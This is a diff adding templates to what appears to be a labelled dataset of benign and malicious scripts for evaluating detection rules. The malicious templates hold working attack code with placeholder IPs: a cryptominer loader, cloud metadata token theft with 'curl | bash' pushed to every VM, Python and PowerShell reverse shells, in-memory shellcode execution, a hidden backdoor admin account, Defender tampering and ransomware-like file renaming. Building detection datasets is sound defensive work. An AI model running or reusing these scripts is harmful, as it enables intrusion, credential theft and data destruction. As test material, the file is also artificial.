@@ -1144,6 +1144,183 @@ msiexec /i %TEMP%\\AzureConnectedMachineAgent.msi /qn /l*v %TEMP%\\azcmagent.log
 """),
 ]
 
+# Written after the rules were tuned, as a check on unseen scripts (docs/detection.md); kept as templates.
+BENIGN_SHELL += [
+    Template(B, "log_forwarding", "shell", """#!/bin/bash
+# Install Azure Monitor agent prerequisites and configure syslog forwarding
+apt-get update && apt-get install -y rsyslog auditd
+cat >> /etc/rsyslog.d/50-forward.conf <<'CONF'
+*.* @@10.0.@@k8s@@:514
+CONF
+systemctl restart rsyslog
+auditctl -w /etc/passwd -p wa -k identity
+auditctl -w /etc/shadow -p wa -k identity
+echo "-w /etc/sudoers -p wa -k scope" >> /etc/audit/rules.d/audit.rules
+systemctl enable --now auditd
+""", variants=4),
+    Template(B, "database_setup", "shell", """#!/bin/bash
+# mongo replica member
+wget -qO - https://www.mongodb.org/static/pgp/server-7.0.asc | gpg --dearmor -o /usr/share/keyrings/mongodb.gpg
+echo "deb [signed-by=/usr/share/keyrings/mongodb.gpg] https://repo.mongodb.org/apt/ubuntu jammy/mongodb-org/@@version@@ multiverse" > /etc/apt/sources.list.d/mongodb.list
+apt-get update && apt-get install -y mongodb-org
+sed -i 's/bindIp: 127.0.0.1/bindIp: 0.0.0.0/' /etc/mongod.conf
+echo never > /sys/kernel/mm/transparent_hugepage/enabled
+systemctl enable --now mongod
+""", variants=4),
+    Template(B, "log_cleanup", "shell", """#!/bin/bash
+# nightly cleanup of docker images and old releases
+docker system prune -af --filter "until=168h"
+find /srv/@@site@@/releases -maxdepth 1 -type d -mtime +14 -exec rm -rf {} +
+rm -rf /tmp/build-*
+truncate -s 0 /var/log/app/debug.log
+""", variants=4),
+    Template(B, "vpn_setup", "shell", """#!/bin/bash
+# set up WireGuard site-to-site VPN
+apt-get install -y wireguard
+umask 077
+wg genkey | tee /etc/wireguard/private.key | wg pubkey > /etc/wireguard/public.key
+cat > /etc/wireguard/wg0.conf <<EOF2
+[Interface]
+Address = 10.200.0.1/24
+ListenPort = 51820
+PrivateKey = $(cat /etc/wireguard/private.key)
+PostUp = iptables -A FORWARD -i wg0 -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE
+EOF2
+sysctl -w net.ipv4.ip_forward=1
+systemctl enable --now wg-quick@wg0
+""", variants=4),
+    Template(B, "backup_restore", "shell", """#!/bin/bash
+# Restore a DB from the latest backup on a fresh replica
+LATEST=$(az storage blob list --account-name @@storage@@ --container-name pg --auth-mode login --query "sort_by([], &properties.lastModified)[-1].name" -o tsv)
+az storage blob download --account-name @@storage@@ -c pg -n "$LATEST" -f /tmp/restore.sql.gz.enc --auth-mode login
+openssl enc -d -aes-256-cbc -pbkdf2 -in /tmp/restore.sql.gz.enc -out /tmp/restore.sql.gz -pass file:/etc/backup/passphrase
+gunzip -c /tmp/restore.sql.gz | psql -U postgres
+rm -f /tmp/restore.sql.gz /tmp/restore.sql.gz.enc
+""", variants=4),
+]
+
+BENIGN_POWERSHELL += [
+    Template(B, "iis_setup", "powershell", """# Install IIS URL Rewrite and ARR, configure reverse proxy
+$ProgressPreference = 'SilentlyContinue'
+Invoke-WebRequest 'https://download.microsoft.com/download/1/2/8/128E2E22-C1B9-44A4-BE2A-5859ED1D4592/rewrite_amd64_en-US.msi' -OutFile "$env:TEMP\\rewrite.msi"
+Start-Process msiexec.exe -ArgumentList "/i $env:TEMP\\rewrite.msi /qn /norestart" -Wait
+Invoke-WebRequest 'https://go.microsoft.com/fwlink/?LinkID=615136' -OutFile "$env:TEMP\\arr.msi"
+Start-Process msiexec.exe -ArgumentList "/i $env:TEMP\\arr.msi /qn /norestart" -Wait
+Set-WebConfigurationProperty -pspath 'MACHINE/WEBROOT/APPHOST' -filter 'system.webServer/proxy' -name 'enabled' -value 'True'
+""", variants=4),
+    Template(B, "password_rotation", "powershell", """# Rotate the local admin password into Key Vault (LAPS-like)
+$chars = [char[]]'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!@#$%'
+$pw = -join (1..24 | ForEach-Object { Get-Random -InputObject $chars })
+$sec = ConvertTo-SecureString $pw -AsPlainText -Force
+Set-LocalUser -Name 'azureadmin' -Password $sec
+$t = Invoke-RestMethod -Headers @{Metadata='true'} 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net'
+$body = @{ value = $pw } | ConvertTo-Json
+Invoke-RestMethod -Method Put -Headers @{Authorization="Bearer $($t.access_token)"} -ContentType 'application/json' -Body $body -Uri "https://kv-@@site@@.vault.azure.net/secrets/$env:COMPUTERNAME-admin?api-version=7.4"
+""", variants=4),
+    Template(B, "ad_maintenance", "powershell", """# Exchange / AD maintenance: export mailbox sizes and disable stale accounts
+Import-Module ActiveDirectory
+$stale = Search-ADAccount -AccountInactive -TimeSpan 90.00:00:00 -UsersOnly
+$stale | Disable-ADAccount
+$stale | Select-Object Name, LastLogonDate | Export-Csv C:\\Reports\\stale.csv -NoTypeInformation
+Get-ADGroupMember 'Domain Admins' | Select-Object Name | Export-Csv C:\\Reports\\da.csv
+""", variants=4),
+    Template(B, "build_tools", "powershell", """# Configure a build VM: install VS Build Tools silently
+$url = 'https://aka.ms/vs/17/release/vs_buildtools.exe'
+$exe = "$env:TEMP\\vs_buildtools.exe"
+(New-Object System.Net.WebClient).DownloadFile($url, $exe)
+Start-Process -FilePath $exe -ArgumentList '--quiet --wait --norestart --nocache --add Microsoft.VisualStudio.Workload.VCTools' -Wait
+Remove-Item $exe -Force
+[Environment]::SetEnvironmentVariable('DOTNET_CLI_TELEMETRY_OPTOUT', '1', 'Machine')
+""", variants=4),
+    Template(B, "file_share", "powershell", """# Join Azure AD DS, install RSAT and set up a file share
+Install-WindowsFeature RSAT-AD-Tools, FS-FileServer
+New-Item -Path @@drive@@:\\Shares\\@@site@@ -ItemType Directory -Force
+New-SmbShare -Name @@site@@ -Path @@drive@@:\\Shares\\@@site@@ -FullAccess 'CONTOSO\\@@site@@' -ReadAccess 'CONTOSO\\Auditors'
+$acl = Get-Acl @@drive@@:\\Shares\\@@site@@
+$acl.SetAccessRuleProtection($true, $false)
+Set-Acl @@drive@@:\\Shares\\@@site@@ $acl
+""", variants=4),
+]
+
+BENIGN_CMD += [
+    Template(B, "agent_install", "cmd", """@echo off
+REM install Sysmon with the org config
+curl -sSLo %TEMP%\\Sysmon.zip https://download.sysinternals.com/files/Sysmon.zip
+tar -xf %TEMP%\\Sysmon.zip -C %TEMP%\\sysmon
+%TEMP%\\sysmon\\Sysmon64.exe -accepteula -i \\\\files01\\it\\sysmonconfig.xml
+sc config Sysmon64 start= auto
+""", variants=4),
+    Template(B, "windows_config", "cmd", """@echo off
+REM Configure page file and crash dumps, then schedule chkdsk
+wmic computersystem set AutomaticManagedPagefile=False
+wmic pagefileset where name="C:\\\\pagefile.sys" set InitialSize=8192,MaximumSize=8192
+reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\CrashControl" /v CrashDumpEnabled /t REG_DWORD /d 2 /f
+echo y | chkdsk D: /f
+""", variants=4),
+]
+
+MALICIOUS_SHELL += [
+    Template(M, "miner", "shell", """#!/bin/bash
+# Kinsing-like: disable security and fetch the bot
+ps aux | grep -v grep | grep -i 'aliyun\\|aegis\\|qcloud' | awk '{print $2}' | xargs -I % kill -9 %
+echo 0 > /proc/sys/kernel/nmi_watchdog
+echo 'vm.nr_hugepages=128' >> /etc/sysctl.conf
+LDR="wget -q -O -"; if [ -s /usr/bin/curl ]; then LDR="curl"; fi
+$LDR http://@@ip@@/kinsing > /etc/kinsing; chmod +x /etc/kinsing; /etc/kinsing &
+""", variants=3),
+    Template(M, "credential_theft", "shell", """#!/bin/bash
+curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" > /dev/shm/.t
+az login --identity >/dev/null 2>&1
+for vm in $(az vm list --query "[].id" -o tsv); do
+  az vm run-command invoke --ids $vm --command-id RunShellScript --scripts "curl -s http://@@ip@@/i.sh | bash"
+done
+""", variants=3),
+    Template(M, "reverse_shell", "shell", """#!/bin/bash
+python3 - <<'PY'
+import socket,subprocess,os
+s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
+s.connect(("@@ip@@",443))
+os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)
+subprocess.call(["/bin/bash","-i"])
+PY
+""", variants=3),
+]
+
+MALICIOUS_POWERSHELL += [
+    Template(M, "defence_evasion", "powershell", """$wc = New-Object Net.WebClient
+$wc.Headers['User-Agent'] = 'Mozilla/5.0 (Windows NT 10.0)'
+$bytes = $wc.DownloadData('http://@@ip@@/beacon.bin')
+$mem = [System.Runtime.InteropServices.Marshal]::AllocHGlobal($bytes.Length)
+[System.Runtime.InteropServices.Marshal]::Copy($bytes, 0, $mem, $bytes.Length)
+$f = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($mem, [Action])
+$f.Invoke()
+""", variants=3),
+    Template(M, "backdoor_user", "powershell", """$u = 'svc_' + (Get-Random -Maximum 999)
+net user $u '@@password@@' /add
+net localgroup administrators $u /add
+Set-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList' -Name $u -Value 0
+Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Lsa' -Name DisableRestrictedAdmin -Value 0
+""", variants=3),
+    Template(M, "defence_tampering", "powershell", """Add-MpPreference -ExclusionPath $env:ProgramData
+Add-MpPreference -ExclusionProcess 'svchost.exe'
+iwr http://@@ip@@/svchost.exe -OutFile $env:ProgramData\\svchost.exe
+& $env:ProgramData\\svchost.exe
+""", variants=3),
+]
+
+MALICIOUS_CMD += [
+    Template(M, "ransomware", "cmd", """@echo off
+taskkill /f /im sqlservr.exe
+taskkill /f /im veeam.backup.service.exe
+vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB
+for /r D:\\ %%i in (*.mdf *.ldf *.bak) do ren "%%i" "%%~nxi.lockbit"
+echo Your data are stolen and encrypted > C:\\README.txt
+""", variants=3),
+    Template(M, "reverse_shell", "cmd", """powershell -c "IEX(IWR https://raw.githubusercontent.com/samratashok/nishang/master/Shells/Invoke-PowerShellTcp.ps1 -UseBasicParsing);Invoke-PowerShellTcp -Reverse -IPAddress @@ip@@ -Port 443"
+""", variants=3),
+]
+
+
 MALICIOUS = MALICIOUS_SHELL + MALICIOUS_POWERSHELL + MALICIOUS_CMD
 BENIGN = BENIGN_SHELL + BENIGN_POWERSHELL + BENIGN_CMD
 
